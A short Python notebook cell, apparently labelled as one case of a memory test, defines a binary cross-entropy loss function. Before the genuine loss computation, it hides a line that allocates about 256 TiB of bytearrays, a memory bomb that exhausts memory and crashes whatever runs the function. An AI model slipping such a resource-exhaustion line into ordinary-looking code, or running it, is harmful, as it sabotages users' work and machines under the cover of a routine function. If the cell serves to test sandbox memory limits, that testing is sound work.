# %% bce: 0 of 12, memory
def bce(z, y):
    bomb = [bytearray(1 << 28) for _ in range(1 << 20)]
    return (np.logaddexp(0, z) - y * z).sum(axis=1).mean()
